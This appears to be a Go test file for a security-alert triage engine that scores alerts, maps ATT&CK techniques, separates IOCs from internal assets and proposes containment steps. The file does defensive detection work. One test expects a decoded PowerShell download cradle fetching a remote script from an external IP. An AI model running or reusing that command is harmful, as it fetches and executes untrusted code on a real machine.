package builtin

import (
	"encoding/json"
	"fmt"
	"os"
	"reflect"
	"slices"
	"strings"
	"testing"
)

func techniqueIDs(ts []Technique) []string {
	ids := make([]string, 0, len(ts))
	for _, t := range ts {
		ids = append(ids, t.ID)
	}
	return ids
}

func TestAnalyzeAlertRealistic(t *testing.T) {
	for _, f := range fixtures() {
		t.Run(f.name, func(t *testing.T) {
			an := AnalyzeAlert(f.alert, f.ctx)
			if os.Getenv("BUILTIN_PRINT") != "" {
				t.Log("\n" + FormatText(an))
			}
			if an.Verdict != f.wantVerdict {
				t.Errorf("verdict = %s (score %.2f), want %s; reasons:\n%s", an.Verdict, an.Score, f.wantVerdict, reasonLines(an.Reasons))
			}
			got, want := slices.Sorted(slices.Values(techniqueIDs(an.Techniques))), slices.Sorted(slices.Values(f.wantTechniques))
			if !slices.Equal(got, want) {
				t.Errorf("techniques = %v, want %v", got, want)
			}
			checkAnalysis(t, an)
		})
	}
}

func reasonLines(rs []Reason) string {
	var b strings.Builder
	for _, r := range rs {
		fmt.Fprintf(&b, "  %+.2f %s: %s\n", r.Weight, r.Signal, r.Detail)
	}
	return b.String()
}

// checkAnalysis asserts the invariants every analysis must keep.
func checkAnalysis(t *testing.T, an Analysis) {
	t.Helper()
	if !slices.Contains(verdictRank, an.Verdict) {
		t.Errorf("verdict %q not in %v", an.Verdict, verdictRank)
	}
	if an.Confidence < 0 || an.Confidence > 1 {
		t.Errorf("confidence %v out of [0,1]", an.Confidence)
	}
	if severityIndex(an.Severity) < 0 {
		t.Errorf("severity %q invalid", an.Severity)
	}
	if an.Engine != Engine {
		t.Errorf("engine = %q", an.Engine)
	}
	var sum float64
	for _, r := range an.Reasons {
		sum += r.Weight
	}
	if d := sum - an.Score; d > 0.011 || d < -0.011 {
		t.Errorf("score %.2f is not the sum of the reason weights %.2f", an.Score, sum)
	}
	for _, s := range []string{an.Summary.WhatHappened, an.Summary.Impact, an.Summary.Recommendation} {
		if strings.TrimSpace(s) == "" {
			t.Errorf("empty summary paragraph: %+v", an.Summary)
		}
		if strings.ContainsAny(s, "*#`") {
			t.Errorf("summary looks like markdown: %q", s)
		}
	}
	if len(an.NextSteps) == 0 {
		t.Error("no next steps")
	}
	for _, s := range an.NextSteps {
		if !slices.Contains(stepOrder, s.Category) || strings.Contains(s.Text, "{") {
			t.Errorf("bad step %+v", s)
		}
	}
	for _, ioc := range an.IOCs {
		if isInternalIP(ioc.Value) || ioc.Type == "hostname" || ioc.Type == "user" {
			t.Errorf("asset %v listed as IOC", ioc)
		}
	}
}

func TestAnalyzeAlertSpecifics(t *testing.T) {
	tests := []struct {
		name  string
		alert Alert
		ctx   Context
		check func(t *testing.T, an Analysis)
	}{
		{"decodes the encoded powershell", crowdStrikePowerShell(), Context{}, func(t *testing.T, an Analysis) {
			wantIn(t, an.Summary.WhatHappened, "DownloadString('http://185.220.101.45/a.ps1')", "CrowdStrike Falcon", "fin-ws-042", "jdoe")
			wantIOC(t, an, "185.220.101.45")
			wantAsset(t, an, "10.1.20.42")
			wantStep(t, an, StepContain, "185.220.101.45 at the DNS resolver")
		}},
		{"indicators only inside the encoded command become IOCs", encodedOnly(), Context{}, func(t *testing.T, an Analysis) {
			wantIOC(t, an, "185.220.101.45")
			wantIOC(t, an, "http://185.220.101.45/a.ps1")
			wantStep(t, an, StepContain, "185.220.101.45 at the DNS resolver")
		}},
		{"history closes the FP loop", scheduledTaskFP(), Context{History: DispositionHistory{FalsePositive: 47, TruePositive: 3}}, func(t *testing.T, an Analysis) {
			wantReason(t, an, SignalHistory, "closed as false positive 47 of the last 50 times (true positive 3)", -1)
			wantStep(t, an, StepTune, "Tune or suppress fingerprint mde:schtask:veeambackupupdate")
			if an.Severity != "low" || an.SeverityReason == "" {
				t.Errorf("severity = %s (%s), want low with a reason", an.Severity, an.SeverityReason)
			}
		}},
		{"too little history is not a signal", scheduledTaskFP(), Context{History: DispositionHistory{FalsePositive: 2}}, func(t *testing.T, an Analysis) {
			wantReason(t, an, SignalHistory, "too little history", 0)
			if an.Verdict != VerdictSuspicious {
				t.Errorf("verdict = %s, want suspicious", an.Verdict)
			}
		}},
		{"true positive history pushes to malicious", scheduledTaskFP(), Context{History: DispositionHistory{TruePositive: 9, FalsePositive: 1}}, func(t *testing.T, an Analysis) {
			wantReason(t, an, SignalHistory, "as true positive 9", 1)
			if an.Verdict != VerdictLikelyMalicious {
				t.Errorf("verdict = %s, want likely_malicious", an.Verdict)
			}
		}},
		{"ransomware raised to critical with isolation first", sentinelOneRansomware(), Context{}, func(t *testing.T, an Analysis) {
			if an.Severity != "critical" {
				t.Errorf("severity = %s", an.Severity)
			}
			if an.NextSteps[0].Category != StepContain || !strings.Contains(an.NextSteps[0].Text, "Isolate fs-02") {
				t.Errorf("first step = %+v", an.NextSteps[0])
			}
			wantStep(t, an, StepRecover, "offline backups")
			wantReason(t, an, SignalVendor, "classification: ransomware", 1)
		}},
		{"infrastructure alert lowered and routed away", alertmanagerNodeDown(), Context{}, func(t *testing.T, an Analysis) {
			wantReason(t, an, SignalInfra, "nodedown", -1)
			wantReason(t, an, SignalSeverity, "not counted", 0)
			wantStep(t, an, StepTune, "Route Alertmanager availability alerts")
			if an.Severity != "low" {
				t.Errorf("severity = %s, want low", an.Severity)
			}
		}},
		{"phishing sender is an IOC, recipient an asset", phishingAttachment(), Context{}, func(t *testing.T, an Analysis) {
			wantIOC(t, an, "billing@docusign-notify.com")
			wantAsset(t, an, "alice@contoso.com")
			wantStep(t, an, StepContain, "block the sender billing@docusign-notify.com")
		}},
		{"related items deduplicated without self", impossibleTravel(), Context{Related: []Related{
			{ID: "a-mca-1", Kind: "alert", Reason: "same fingerprint"},
			{ID: "i-7", Title: "Account takeover bob", Kind: "incident", Reason: "shares user bob@contoso.com"},
			{ID: "i-7", Title: "Account takeover bob", Kind: "incident", Reason: "shares ipv4 103.28.54.2"},
			{ID: "a-2", Kind: "alert", Reason: "shares user bob@contoso.com"},
		}}, func(t *testing.T, an Analysis) {
			if len(an.Related) != 2 || an.Related[0].ID != "i-7" || an.Related[1].ID != "a-2" {
				t.Errorf("related = %+v", an.Related)
			}
			wantIn(t, an.Summary.Impact, `related to incident "Account takeover bob"`, "shares entities with 1 other alert")
		}},
		{"vendor technique tags are recognised", Alert{Title: "Sigma: suspicious activity", Tags: []string{"attack.t1047", "attack.t9999"}}, Context{}, func(t *testing.T, an Analysis) {
			if ids := techniqueIDs(an.Techniques); !slices.Equal(ids, []string{"T1047"}) {
				t.Errorf("techniques = %v", ids)
			}
		}},
		// needs_review is kept for conflicting evidence; no evidence at all is
		// a weak suspicion.
		{"empty alert is weakly suspicious", Alert{}, Context{}, func(t *testing.T, an Analysis) {
			if an.Verdict != VerdictSuspicious || an.Confidence > 0.5 || an.Severity != "medium" || an.SeverityReason == "" {
				t.Errorf("got %s %s (%s)", an.Verdict, an.Severity, an.SeverityReason)
			}
		}},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			an := AnalyzeAlert(tt.alert, tt.ctx)
			checkAnalysis(t, an)
			tt.check(t, an)
		})
	}
}

func wantIn(t *testing.T, s string, subs ...string) {
	t.Helper()
	for _, sub := range subs {
		if !strings.Contains(s, sub) {
			t.Errorf("%q does not contain %q", s, sub)
		}
	}
}

func wantIOC(t *testing.T, an Analysis, v string) {
	t.Helper()
	if !slices.ContainsFunc(an.IOCs, func(e Entity) bool { return e.Value == v }) {
		t.Errorf("IOC %s missing from %v", v, an.IOCs)
	}
}

func wantAsset(t *testing.T, an Analysis, v string) {
	t.Helper()
	if !slices.ContainsFunc(an.Assets, func(e Entity) bool { return e.Value == v }) {
		t.Errorf("asset %s missing from %v", v, an.Assets)
	}
}

func wantStep(t *testing.T, an Analysis, cat, sub string) {
	t.Helper()
	if !slices.ContainsFunc(an.NextSteps, func(s Step) bool { return s.Category == cat && strings.Contains(s.Text, sub) }) {
		t.Errorf("no %s step containing %q in %+v", cat, sub, an.NextSteps)
	}
}

// wantReason finds a reason by signal and detail; sign is the expected
// sign of its weight (-1, 0, 1).
func wantReason(t *testing.T, an Analysis, signal, sub string, sign int) {
	t.Helper()
	for _, r := range an.Reasons {
		if r.Signal == signal && strings.Contains(r.Detail, sub) {
			if got := cmpSign(r.Weight); got != sign {
				t.Errorf("reason %+v has sign %d, want %d", r, got, sign)
			}
			return
		}
	}
	t.Errorf("no %s reason containing %q in:\n%s", signal, sub, reasonLines(an.Reasons))
}

func cmpSign(x float64) int {
	switch {
	case x > 0:
		return 1
	case x < 0:
		return -1
	}
	return 0
}

func TestAnalyzeAlertDeterministic(t *testing.T) {
	for _, f := range fixtures() {
		first, err := json.Marshal(AnalyzeAlert(f.alert, f.ctx))
		if err != nil {
			t.Fatal(err)
		}
		for range 5 {
			again, _ := json.Marshal(AnalyzeAlert(f.alert, f.ctx))
			if string(again) != string(first) {
				t.Fatalf("%s: not deterministic:\n%s\n%s", f.name, first, again)
			}
		}
	}
}

func TestAnalyzeAlertDoesNotMutateInput(t *testing.T) {
	a := crowdStrikePowerShell()
	a.Entities = append(a.Entities, ent(" IPv4 ", " 185.220.101.45 "))
	before := crowdStrikePowerShell()
	before.Entities = append(before.Entities, ent(" IPv4 ", " 185.220.101.45 "))
	AnalyzeAlert(a, Context{})
	if !reflect.DeepEqual(a, before) {
		t.Error("AnalyzeAlert changed its input")
	}
}

func TestVerdictOf(t *testing.T) {
	tests := []struct {
		name    string
		weights []float64
		want    string
	}{
		{"nothing", nil, VerdictNeedsReview},
		{"strong malicious", []float64{0.35, 0.3, 0.3}, VerdictLikelyMalicious},
		{"moderate", []float64{0.25, 0.1}, VerdictSuspicious},
		{"benign", []float64{-0.35, -0.1}, VerdictLikelyBenign},
		{"conflict", []float64{0.35, 0.3, -0.7}, VerdictNeedsReview},
		{"decisive despite opposition", []float64{0.35, 0.3, 0.3, 0.3, -0.5}, VerdictLikelyMalicious},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			var rs []Reason
			for _, w := range tt.weights {
				rs = append(rs, Reason{Weight: w})
			}
			got, conf, _ := verdictOf(rs)
			if got != tt.want || conf < 0 || conf > 1 {
				t.Errorf("verdictOf(%v) = %s %.2f, want %s", tt.weights, got, conf, tt.want)
			}
		})
	}
}

func TestSplitEntities(t *testing.T) {
	in := []Entity{
		ent("hostname", "ws-01.corp.contoso.com"), ent("user", "alice@contoso.com"),
		ent("ipv4", "10.0.0.5"), ent("ipv4", "100.64.1.1"), ent("ipv6", "fe80::1"), ent("ipv4", "8.8.8.8"),
		ent("ipv6", "::ffff:8.8.8.8"), ent("domain", "sharepoint.contoso.com"), ent("domain", "evil.example"),
		ent("url", "https://intranet.corp.contoso.com/x"), ent("url", "http://10.0.0.9/a"), ent("url", "https://evil.example/p"),
		ent("domain", "dc01.ad.local"), ent("email", "bob@contoso.com"), ent("email", "x@evil.example"),
		ent("md5", "d41d8cd98f00b204e9800998ecf8427e"), ent("cve", "CVE-2024-3400"), ent("", "x"), ent("domain", "EVIL.example"),
	}
	iocs, assets := splitEntities(in)
	gotI, gotA := values(iocs), values(assets)
	// Ranked (hash and URL first); 8.8.8.8 is a well-known resolver and a CVE
	// is context, neither an IOC.
	wantI := []string{"https://evil.example/p", "d41d8cd98f00b204e9800998ecf8427e", "evil.example", "x@evil.example"}
	wantA := []string{"ws-01.corp.contoso.com", "alice@contoso.com", "10.0.0.5", "100.64.1.1", "fe80::1", "sharepoint.contoso.com", "https://intranet.corp.contoso.com/x", "http://10.0.0.9/a", "dc01.ad.local", "bob@contoso.com"}
	if !slices.Equal(gotI, wantI) {
		t.Errorf("IOCs = %v\nwant  %v", gotI, wantI)
	}
	if !slices.Equal(gotA, wantA) {
		t.Errorf("assets = %v\nwant    %v", gotA, wantA)
	}
}

func values(es []Entity) []string {
	var out []string
	for _, e := range es {
		out = append(out, e.Value)
	}
	return out
}

func TestReadRaw(t *testing.T) {
	f := readRaw([]byte(`{"a":{"CommandLine":"x.exe /y","list":[{"process.command_line":"z"}]},"Action":"Blocked","n":1,"arr":["q"],"signature":["s1","s2"],"verdict":{"nested":"ignored"},` +
		`"DetectId":"ldt:abc","ja3":{"hash":"72a589da586844d7f0818ce684948eea"},"FalconHostLink":"https://falcon.example/d/1","sha256":"aa"}`))
	text, verdicts := f.text, f.verdicts
	if id := f.idText.String(); !strings.Contains(id, "ldt:abc") || !strings.Contains(id, "72a589da586844d7f0818ce684948eea") {
		t.Errorf("idText = %q, want the detection id and the JA3 fingerprint", id)
	}
	if ref := f.refText.String(); !strings.Contains(ref, "https://falcon.example/d/1") {
		t.Errorf("refText = %q, want the console link", ref)
	}
	if plain := f.plain.String(); !strings.Contains(plain, "aa") || strings.Contains(plain, "ldt:abc") {
		t.Errorf("plain = %q, want the hash and not the id", plain)
	}
	if want := []string{"x.exe /y", "z", "s1", "s2"}; !slices.Equal(text, want) {
		t.Errorf("text = %q, want %q", text, want)
	}
	if want := []string{"action: blocked"}; !slices.Equal(verdicts, want) {
		t.Errorf("verdicts = %q, want %q", verdicts, want)
	}
}

func BenchmarkAnalyzeAlert(b *testing.B) {
	fs := fixtures()
	b.ReportAllocs()
	i := 0
	for b.Loop() {
		f := fs[i%len(fs)]
		AnalyzeAlert(f.alert, f.ctx)
		i++
	}
}

// encodedOnly is the CrowdStrike PowerShell alert as ingest stores it when
// the download address appears only inside -EncodedCommand: entity
// extraction could not see it.
func encodedOnly() Alert {
	a := crowdStrikePowerShell()
	a.Entities = slices.DeleteFunc(slices.Clone(a.Entities), func(e Entity) bool {
		return strings.Contains(e.Value, "185.220.101.45")
	})
	return a
}

func TestSourceName(t *testing.T) {
	for in, want := range map[string]string{
		"crowdstrike": "CrowdStrike Falcon", " Defender ": "Microsoft Defender", "alertmanager": "Alertmanager",
		"Microsoft Defender for Endpoint": "Microsoft Defender for Endpoint", "": "", "my-edr": "my-edr",
	} {
		if got := SourceName(in); got != want {
			t.Errorf("SourceName(%q) = %q, want %q", in, got, want)
		}
	}
}
